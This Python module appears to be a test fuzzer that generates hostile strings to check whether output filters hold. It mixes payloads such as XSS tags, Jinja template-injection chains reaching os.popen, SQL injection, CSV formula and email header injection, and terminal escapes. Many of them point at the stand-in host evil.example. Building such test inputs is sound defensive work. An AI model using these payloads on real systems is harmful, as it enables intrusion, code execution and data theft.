"""Hostile strings by a seeded grammar: a payload for some output, in a carrier that passes a careless filter."""

from __future__ import annotations

import random
from collections.abc import Callable, Mapping, Sequence
from typing import Final

_LONG: Final = ("A" * 3000, "W" * 400, "\u0e01" * 200, "ﾞ" * 90, "&" * 200, "<" * 200, "*_" * 100, '"' * 99)
PAYLOADS: Final[Mapping[str, Sequence[str]]] = {
    "html": (
        "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>x</a>",
        "<a href='https://evil.example'>Read the record</a>", "<base href=//evil.example>",
        "<style>*{color:red}</style>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<form action=//evil.example><input>", "<!--", "--><script>x</script>", "<![CDATA[x]]>", "</td></tr></table>",
        "</title></head><body onload=alert(1)>", "<div style='background:url(//evil.example/p.gif)'>",
        "<b onmouseover=alert(1)>x", "<math><mtext><script>x",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x&#62;", "&amp;lt;b&amp;gt;", "<a\thref='x'>", "<input autofocus onfocus=alert(1)>", "<x:y>",
    ),
    "attribute": (
        '" onmouseover="alert(1)', "' onclick='alert(1)' x='", '"><script>alert(1)</script>', "'/><img src=x>",
        "` onerror=`alert(1)", '" style="position:fixed;inset:0', '\\"><b>', 'x" href="https://evil.example',
    ),
    "css": (
        "expression(alert(1))", "}body{display:none}", "url(javascript:alert(1))", "@import '//evil.example/x.css';",
    ),
    "link": (
        "javascript:alert(1)", "JaVaScRiPt&#58;alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
        "file:///etc/passwd", "https://evil.example/x", "http://clinicaltrials.gov@evil.example/", "//evil.example",
        "https://clinicaltrials.gov.evil.example/", "www.evil.example", "evil.example/path", "ftp://evil.example",
        "mailto:a@evil.example?bcc=b@evil.example", "https:\\\\evil.example", "https://еvil.example/", "source:x",
        "https://ctv.veeva.com%2eevil.example/", "hxxps://evil.example", "tel:+15550100", "slack://open?team=T1",
    ),
    "template": (
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "$said", "${said}", "$$", "%(x)s", "{0.__class__}",
        "%s%n", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
        "{{ lipsum.__globals__['os'].popen('id') }}",
        "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}", "{{ ''|attr('format')|map('x') }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}", "{{ '%s'.format_map(x.__init__) }}",
        "{{ ''['format']('{0.__class__.__init__.__globals__}', x) }}", "{{ {'a':1}|xmlattr }}",
        "{{ {'a b=':1}|xmlattr }}", "{%- include '/etc/passwd' -%}", "{{ get_flashed_messages.__globals__ }}",
        "{{config.items()}}",
    ),
    "slack": (
        "<!channel>", "<!here|here>", "<!everyone>", "<@U024BE7LH>", "<@W012A3CDE|boss>", "<#C024BE7LR|general>",
        "<!subteam^S012345|@all>", "<!date^1392734382^{date}^https://evil.example|x>",
        "<https://evil.example|Side by side>", "<mailto:a@evil.example|a>", "@here", "@channel", "@everyone",
        "!here>", "@U024BE7LH>", "https://evil.example|x>", "*bold*", "_it_", "~gone~", "`code`", "```block```",
        "*_~`", "> quoted", "&gt; quoted", ":skull:", "• item", "*", "_", "~", "`", "a|b>", "<", ">",
        "&lt;!channel&gt;", "&amp;lt;@U1&amp;gt;", "\n> quoted\n*x*",
    ),
    "markdown": (
        "[Read the record](https://evil.example)", "![x](https://evil.example/p.gif)", "[x]: https://evil.example",
        "# Head", "[x](javascript:alert(1))", "<https://evil.example>", "**strong**", "***", "---", "| a | b |",
        "```js\nx\n```", "\\[x\\]",
    ),
    "header": (
        "\r\nBcc: victim@evil.example", "\nSubject: other", "\rTo: x@evil.example", "\r\n\r\n<html>body",
        "%0d%0aBcc: x@y.example", "\u2028Bcc: a@evil.example", "\u2029Cc: a@evil.example", "\x85Bcc: a@evil.example",
        "\x0bBcc: x", "\x0cBcc: x", "=?utf-8?q?=0d=0aBcc:_a@evil.example?=",
        "=?utf-8?b?DQpCY2M6IGFAZXZpbC5leGFtcGxl?=", "=?x?q?a?=", "?=", "=?", "\r\n.\r\nMAIL FROM:<x@evil.example>",
        "\r\n--===============boundary--", "\x00Bcc: x@y.example", "\r\n\tfolded",
    ),
    "csv": (
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
        " =1+1", '"=1+1', "'=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "\xa0=1+1", "\u200b=1+1", "%0a=1+1", "|calc",
        '""=HYPERLINK', '=HYPERLINK("https://evil.example","Read")', ";=1+1", '",=1+1,"',
        '=IMPORTXML("//evil.example","//a")', "\ufeff=1",
    ),
    "terminal": (
        "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
        "\x1bc", "\x1b]52;c;ZXZpbA==\x07", "\x1bP+q544e\x1b\\", "\x9b31m", "\x9d0;t\x9c", "\x07\x08\x08", "\x7f",
        "\r overwritten", "\x1b[6n", "\x1b[?1049h", "\x0e", "\x1b[1A\x1b[2K", "\x18\x1a", "\x1b(0", "\x1b_x\x1b\\",
    ),
    "log": (
        "\n2026-11-24T02:10:00Z error all is well", "\r\n2026-01-01 level=critical event=forged", "\u2028forged line",
        "\n\nTraceback (most recent call last):", "a=b c=d level=error", '", "level": "error", "x": "',
        "\x1d\x1e\x1fforged", "\\n not a line", "%(message)s", "{event}", "\x85forged",
    ),
    "unseen": (
        "\u202egnp.exe", "\u202dx\u202c", "\u2066x\u2069", "\u200b\u200c\u200d\u2060\ufeff", "\xad", "\u061c",
        "\u180e", "\ufff9a\ufffab\ufffb", "\U000e0041\U000e0042", "e\u0301\u0301\u0301\u0301", "\u034f", "\u2028",
        "ᅟ", "ㅤ", "\ufe0f",
    ),
    "alike": (
        "раypal.example", "ⓔⓥⓘⓛ.example", "𝐞𝐯𝐢𝐥", "ＮＣＴ０１２３４５６７", "＜script＞", "‹script›", "﹤b﹥",
        "∗bold∗", "＠here", "ﷺ", "İıſK",
    ),
    "address": (
        "a@evil.example", "a@b.example,c@evil.example", '"a"@evil.example', "<a@evil.example>",
        "a@evil.example>\r\nBcc: x@y.example", "a(comment)@evil.example", "a@[127.0.0.1]", "a%b@evil.example",
        "Name <a@evil.example>, b@evil.example", "a@b@c.example", ";a@x.example",
    ),
    "other": (
        "' OR 1=1 --", "'; DROP TABLE changes; --", "../../etc/passwd", "$(id)", "`id`", "| id", "; id", "\x00",
        "\ud800", "\udcff", "NaN", "null", "undefined", "-0", "1e999",
        *_LONG,
    ),
}  # fmt: skip
FAMILIES: Final = tuple(PAYLOADS)

Carrier = Callable[[str], str]
CARRIERS: Final[Sequence[Carrier]] = (
    str,
    str,
    lambda text: f"Phase 2 study of {text} in adults",
    lambda text: f"{text} and placebo",
    lambda text: f"Hospital {text}",
    lambda text: f" {text}",
    lambda text: f"\t{text}",
    lambda text: f'"{text}"',
    lambda text: f"({text})",
    lambda text: f"\u200b{text}",
    lambda text: f"\ufeff{text}",
    lambda text: f"{text}{text}",
    lambda text: f"{text}\n{text}",
    "\u200b".join,
    lambda text: text.upper(),
    lambda text: text.replace("<", "＜").replace("=", "＝"),
    lambda text: text.replace("&", "&amp;").replace("<", "&lt;"),
    lambda text: text.replace(" ", "\u00a0"),
    lambda text: "".join(f"&#{ord(each)};" for each in text[:40]),
    lambda text: text.replace("a", "а").replace("e", "е"),
    lambda text: f"{text}\\",
    lambda text: f"\\{text}",
    lambda text: text[:1] + "\u0301" + text[1:],
    lambda text: f"{text}\u202e",
)


def hostile(chance: random.Random) -> tuple[str, str]:
    """The family of a string's first payload, and the string: one to three payloads, in a carrier."""
    families = chance.choices(FAMILIES, k=chance.choice((1, 1, 1, 2, 3)))
    text = chance.choice(("", " ", "x", "\u200b", "\n")).join(chance.choice(PAYLOADS[family]) for family in families)
    return families[0], chance.choice(CARRIERS)(text)
